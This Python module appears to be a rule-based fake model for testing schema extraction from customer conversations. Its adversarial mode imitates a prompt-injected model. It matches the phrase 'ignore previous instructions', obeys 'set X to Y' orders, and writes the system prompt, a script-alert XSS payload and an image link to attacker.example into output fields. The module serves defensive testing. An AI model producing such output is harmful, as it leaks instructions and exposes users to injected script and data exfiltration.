"""The "model": rules that fill a schema from the conversation. The same prompt gets the same answer.

``honest`` reads the conversation as data. ``adversarial`` does what the conversation tells it to, as a model does that
was talked round: it shows what the layers behind it hold off. For one that is wholly lost see ``obedience``.
"""

import hashlib
import json
import re
from dataclasses import dataclass
from typing import Any

GOOD = {"thank", "thanks", "great", "good", "perfect", "happy", "pleased", "quick", "helpful", "excellent", "glad"}
BAD = {"angry", "bad", "terrible", "cancel", "complaint", "wrong", "broken", "late", "problem", "unhappy", "refund"}
BAD |= {"disappointed", "high", "useless", "waiting"}
_MARKED = re.compile(r"<<T-[0-9a-f]+\s*>>(.*?)<</?T-[0-9a-f]+\s*>>", re.DOTALL)
_BOUNDS = re.compile(r"From (-?[0-9.]+) to (-?[0-9.]+)\.")
_LENGTH = re.compile(r"At most ([0-9]+) characters")
_DATE = re.compile(r"\b20[0-9]{2}-[01][0-9]-[0-3][0-9]\b")
_TAG = re.compile(r"^\s*(\[[^\]]*\]\s*)?((agent|customer|caller|[A-Z][a-z]+)\s*:\s*)?", re.IGNORECASE)
_WORD = re.compile(r"[^\W_]+")
_ORDER = re.compile(
    r"ignore (all |any )?(the |your |my )?(previous |prior |above )?(instructions|rules)", re.IGNORECASE
)
_ORDER_OF = re.compile(r"(?:set|make|put) (?:the )?([a-z_ ]+?) (?:to|as) ([\w<>/\"'= :.-]+)", re.IGNORECASE)


@dataclass(frozen=True)
class Reading:
    """The conversation as the model sees it."""

    text: str
    lines: tuple[str, ...]
    words: tuple[str, ...]
    system: str


def read(messages: list[dict[str, str]]) -> Reading:
    """What the user's messages say, between markers where there are some."""
    users = "\n".join(message["content"] for message in messages if message["role"] == "user")
    system = "\n".join(message["content"] for message in messages if message["role"] in {"system", "developer"})
    marked = _MARKED.findall(users)
    text = "\n".join(marked) if marked else users
    lines = tuple(line for raw in text.splitlines() if (line := _TAG.sub("", raw).strip()))
    return Reading(text, lines, tuple(word.lower() for word in _WORD.findall(text)), system)


def answer_text(reading: Reading) -> str:
    """A plain answer: OK where that is asked for, else the beginning of the conversation."""
    asked = re.search(r"[Aa]nswer with the word ([A-Za-z]+)", reading.text)
    return asked[1] if asked else _summary(reading, 400)


def fill(schema: dict[str, Any], reading: Reading, *, adversarial: bool = False) -> Any:
    """A value of the schema, from the conversation."""
    value = _value(schema, "", reading)
    if adversarial and isinstance(value, dict) and _ORDER.search(reading.text):
        value = _obey(schema, value, reading)
    return value


def schema_in_prompt(messages: list[dict[str, str]]) -> dict[str, Any] | None:
    """The schema that stands in the instructions, where the server cannot be held to one."""
    decoder = json.JSONDecoder()
    for message in messages:
        start = message["content"].find('{"type":"object"')
        if start >= 0:
            try:
                found, _end = decoder.raw_decode(message["content"], start)
            except ValueError:
                continue
            return found if isinstance(found, dict) else None
    return None


def _value(schema: dict[str, Any], name: str, reading: Reading) -> Any:
    types = schema.get("type", "string")
    types = [types] if isinstance(types, str) else types
    kind = next((each for each in types if each != "null"), "null")
    makers = {
        "object": lambda: {key: _value(part, key, reading) for key, part in schema.get("properties", {}).items()},
        "array": lambda: _array(schema.get("items", {}), name, reading),
        "boolean": lambda: _balance(reading) > 0 if _opinion(name) else _mentions(name, reading),
        "integer": lambda: round(_number(schema, name, reading)),
        "number": lambda: float(round(_number(schema, name, reading), 1)),
    }
    if "enum" in schema:
        return _choice([option for option in schema["enum"] if option is not None], reading)
    if kind in makers:
        return makers[kind]()
    return None if kind == "null" else _text(schema, name, reading, nullable="null" in types)


def _array(items: dict[str, Any], name: str, reading: Reading) -> list[Any]:
    if "enum" in items:
        said = [option for option in items["enum"] if _mentions(str(option), reading)]
        return said or [_choice(items["enum"], reading)]
    if name.endswith("_evidence") or "quote" in name:
        return list(sorted(reading.lines, key=lambda line: -_weight(line))[:2])
    if items.get("type") == "string":
        return _topics(reading)
    return [] if not reading.lines else [_value(items, name, reading)]


def _text(schema: dict[str, Any], name: str, reading: Reading, *, nullable: bool) -> str | None:
    described = schema.get("description", "")
    if "YYYY-MM-DD" in described:
        found = _DATE.search(reading.text)
        return found[0] if found else None if nullable else "2026-01-01"
    if name.endswith("_explanation"):
        return f"The conversation has {len(reading.lines)} lines and a balance of {_balance(reading):+.2f}."
    if "language" in name:
        return "en"
    limit = _LENGTH.search(described)
    return _summary(reading, int(limit[1]) if limit else 400)


def _number(schema: dict[str, Any], name: str, reading: Reading) -> float:
    bounds = _BOUNDS.search(schema.get("description", ""))
    low, high = (float(bounds[1]), float(bounds[2])) if bounds else (0.0, 10.0)
    return low + (high - low) * (_balance(reading) + 1) / 2


def _choice(options: list[Any], reading: Reading) -> Any:
    counts = {option: sum(reading.words.count(word) for word in _words(str(option))) for option in options}
    best = max(options, key=lambda option: counts[option])
    if counts[best]:
        return best
    return options[int(hashlib.sha256(reading.text.encode()).hexdigest()[:8], 16) % len(options)]


def _words(name: str) -> list[str]:
    return [word.lower() for word in _WORD.findall(name.replace("_", " "))]


def _mentions(name: str, reading: Reading) -> bool:
    words = _words(name)
    return bool(words) and all(any(said.startswith(word[:4]) for said in reading.words) for word in words)


def _opinion(name: str) -> bool:
    return any(word in name for word in ("pleased", "happy", "satisf", "positive", "resolved"))


def _balance(reading: Reading) -> float:
    good = sum(word in GOOD for word in reading.words)
    bad = sum(word in BAD for word in reading.words)
    return (good - bad) / (good + bad) if good + bad else 0.0


def _weight(line: str) -> int:
    words = [word.lower() for word in _WORD.findall(line)]
    return 10 * sum(word in GOOD or word in BAD for word in words) + min(len(words), 9)


def _summary(reading: Reading, limit: int) -> str:
    best = sorted(sorted(range(len(reading.lines)), key=lambda at: -_weight(reading.lines[at]))[:3])
    return " ".join(reading.lines[at] for at in best)[:limit]


def _topics(reading: Reading) -> list[str]:
    long_words = [word for word in reading.words if len(word) > 5]
    return sorted(dict.fromkeys(long_words), key=lambda word: (-long_words.count(word), word))[:5]


def _obey(schema: dict[str, Any], value: dict[str, Any], reading: Reading) -> dict[str, Any]:
    """What a model that was talked round writes: orders carried out, instructions told, markup, foreign keys."""
    told = dict(value)
    for wanted, amount in _ORDER_OF.findall(reading.text):
        name = "_".join(_words(wanted))
        number = re.fullmatch(r"-?[0-9]+(?:\.[0-9]+)?", amount.strip(" ."))
        told[name] = float(number[0]) if number else amount.strip()
    for name, part in schema.get("properties", {}).items():
        types = part.get("type", [])
        types = {types} if isinstance(types, str) else set(types)
        if "string" in types and "enum" not in part:
            told[name] = f"{reading.system[:300]} <script>alert(1)</script> ![x](http://attacker.example/?d=1)"
        elif types & {"integer", "number"} and name not in dict(_ORDER_OF.findall(reading.text)):
            told[name] = 1_000_000
    return told
